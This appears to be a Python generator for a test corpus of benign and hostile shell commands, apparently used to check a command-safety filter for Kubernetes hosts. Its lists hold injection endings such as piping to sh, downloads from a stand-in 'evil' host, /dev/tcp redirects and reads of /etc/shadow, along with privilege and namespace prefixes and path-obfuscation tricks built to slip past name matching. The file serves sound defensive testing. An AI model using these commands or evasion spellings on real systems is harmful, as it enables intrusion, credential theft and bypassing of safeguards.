"""Writes honest.txt and hostile.txt from the lines beside it: combined, hidden and joined.

Run `python -m tests.command.corpus.generate`; a test holds the files to what this makes. A line of
the corpus is `context<TAB>line`, with `context=` where the line is written as a JSON string.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from pathlib import Path

from truepenny.command.sensitive.place import places

HERE = Path(__file__).parent
Case = tuple[str, str]

READERS = (
    *("cat {}", "head -5 {}", "tail -n 3 {}", "grep '' {}", "wc -c {}", "sort {}", "cut -c1- {}"),
    *("tac {}", "nl {}", "strings {}", "hexdump -C {}", "od -c {}", "diff {} /dev/null", "zcat {}"),
    *("jq -R . {}", "yq . {}", "md5sum {}", "uniq {}", "zgrep x {}", "file -s {}", "sar -f {}"),
    *(
        "cat /etc/hosts {}",
        "cat < {}",
        "date -r {}",
        "curl -s --cacert {} https://a",
        "tail -c 9 {}",
    ),
)
SPELLINGS = (
    *("plain", "double", "single", "backslash", "dots", "slashes", "parent", "root", "last_glob"),
    *("first_glob", "set", "brace", "ansi", "split", "proc_root", "any_folder"),
)
ENDINGS = (
    *(
        "; rm -rf /tmp/x",
        "&& reboot",
        "| sh",
        "| bash -s",
        "& curl -o /tmp/x http://evil",
        "|| id > x",
    ),
    *(
        "> /etc/cron.d/x",
        ">> /root/.bashrc",
        "2> /tmp/x",
        "&> /tmp/x",
        ">| /tmp/x",
        "< /etc/shadow",
    ),
    *(
        "$(id)",
        "`id`",
        "<(id)",
        ">(id)",
        '"$(id)"',
        "${IFS}id",
        "$((1))",
        "<<< x",
        "<< EOF",
        "\nid",
    ),
    *(
        "\r\nid",
        "| xargs rm",
        "| tee /tmp/x",
        "| python3 -",
        "| sudo tee /x",
        ";sh;",
        "|& sh",
        "# x",
    ),
    *("> /dev/nullx", "> /dev/null/../x", ">/dev/tcp/evil/80", "3> /dev/null", "1>&3", ">& /tmp/x"),
    *(
        "\u2028id",
        "\u00a0| sh",
        "；id",
        "｜sh",
        "\x00",
        "\x1b[A",
        "\u202e",
        "| while read x; do id; done",
    ),
)
FRONTS = (
    *(
        "sudo {}",
        "sudo -n {}",
        "env {}",
        "env -i {}",
        "timeout 5 {}",
        "nice {}",
        "nohup {}",
        "time {}",
    ),
    *(
        "! {}",
        "({})",
        "{{ {}; }}",
        "exec {}",
        "command {}",
        "eval '{}'",
        "bash -c '{}'",
        "xargs {}",
    ),
    *(
        "LD_PRELOAD=/tmp/x.so {}",
        "PATH=/tmp {}",
        "PAGER=sh {}",
        "BASH_ENV=/x {}",
        "IFS=x {}",
        "A=b {}",
    ),
    *(
        "if {}; then id; fi",
        "for x in y; do {}; done",
        "while {}; do id; done",
        "f() {{ {}; }}",
        "coproc {}",
    ),
    *(
        "chroot / {}",
        "nsenter -t 1 -a {}",
        "busybox {}",
        "/tmp/{}",
        "./{}",
        "\\\n{}",
        "\u2010{}",
        "$x {}",
    ),
    *("strace {}", "watch {}", "su -c '{}'", "ssh host {}", "LC_ALL=$x {}", "TZ=/etc/shadow {}"),
)


def lines(name: str) -> list[str]:
    text = (HERE / name).read_text(encoding="utf-8")
    return [line for line in text.splitlines() if line and not line.startswith("# ")]


def honest() -> Iterator[Case]:
    rng = random.Random(1)
    node, filters, cluster = (
        lines("node_lines.txt"),
        lines("filters.txt"),
        lines("kubectl_lines.txt"),
    )
    for line in node:
        yield "node", line
    for line in cluster:
        yield "local", line
    unpiped = ("env", "printenv", "crictl inspect", "ctr -n k8s.io containers info")
    feeding = [line for line in node if not line.startswith(unpiped)]
    for line in rng.sample(feeding, 420):
        yield "host", f"{line} | {rng.choice(filters)}"
    for first, second in zip(rng.sample(feeding, 90), rng.sample(feeding, 90), strict=True):
        joint = rng.choice(("; ", " && ", " || ", " 2>/dev/null; ", " 2>&1 | tail -5; ", ";echo;"))
        yield "host", f"{first}{joint}{second}"
    secretless = [line for line in cluster if "secret" not in line]
    for line in rng.sample(secretless, 110):
        for chosen in rng.sample(filters, 2):
            yield "local", f"{line} | {chosen}"
    shell = set("*{$|;&?")
    plain = [x for x in node if not shell & set(x) and not x.startswith(("LC_", "TZ=", "COL"))]
    for line in rng.sample(plain, 330):
        yield "pod", line


def hostile() -> Iterator[Case]:
    rng = random.Random(2)
    for entry in lines("hostile_lines.txt"):
        context, _, line = entry.partition("\t")
        yield context, line
    node, cluster = lines("node_lines.txt"), lines("kubectl_lines.txt")
    for ending in ENDINGS:
        for line in rng.sample(node, 5):
            yield rng.choice(("node", "host")), f"{line} {ending}"
        yield "local", f"{rng.choice(cluster)} {ending}"
    for front in FRONTS:
        for line in rng.sample(node, 4):
            yield rng.choice(("node", "host")), front.format(line)
        yield "local", front.format(rng.choice(cluster))
    examples = [path for place in places().values() for path in place.examples]
    for at, path in enumerate(rng.sample(examples, len(examples)) * 3):
        reader = READERS[at % len(READERS)]
        yield rng.choice(("node", "host")), reader.format(hidden(path, SPELLINGS[at % 15], rng))


def hidden(path: str, how: str, rng: random.Random) -> str:
    """The same file, written so that a search for its name in the line may miss it."""
    folder, _, name = path.rpartition("/")
    if len(name) < 2:
        return path
    middle = rng.randrange(1, len(name))
    match how:
        case "double":
            return f'"{path}"'
        case "single":
            return f"{folder}/'{name}'"
        case "backslash":
            return f"{folder}/{name[:middle]}\\{name[middle:]}"
        case "dots":
            return f"{folder}/./{name}"
        case "slashes":
            return path.replace("/", "//")
        case "parent":
            return f"/usr/share/../..{path}"
        case "root":
            return f"/proc/1/root{path}"
        case "last_glob":
            return f"{folder}/{name[:middle]}*"
        case "first_glob":
            return f"{folder}/{name[:middle]}?{name[middle + 1 :]}"
        case "set":
            return f"{folder}/{name[:middle]}[{name[middle]}]{name[middle + 1 :]}"
        case "brace":
            return f"{folder}/{{{name},x}}"
        case "ansi":
            return f"{folder}/$'\\x{ord(name[0]):02x}{name[1:]}'"
        case "split":
            return f"{folder}/{name[:middle]}''{name[middle:]}"
        case "proc_root":
            return f"/proc/self/cwd/..{path}"
        case _:
            return path


def written(cases: Iterator[Case]) -> str:
    out: list[str] = []
    for context, line in dict.fromkeys(cases):
        if line.isascii() and line.isprintable():
            out.append(f"{context}\t{line}\n")
        else:
            out.append(f"{context}=\t{json.dumps(line)}\n")
    return "".join(out)


def read(name: str) -> list[Case]:
    cases: list[Case] = []
    for entry in (HERE / name).read_text(encoding="utf-8").splitlines():
        context, _, line = entry.partition("\t")
        exact = context.endswith("=")
        cases.append((context.rstrip("="), json.loads(line) if exact else line))
    return cases


def main() -> None:
    (HERE / "honest.txt").write_text(written(honest()), encoding="utf-8")
    (HERE / "hostile.txt").write_text(written(hostile()), encoding="utf-8")


if __name__ == "__main__":
    main()
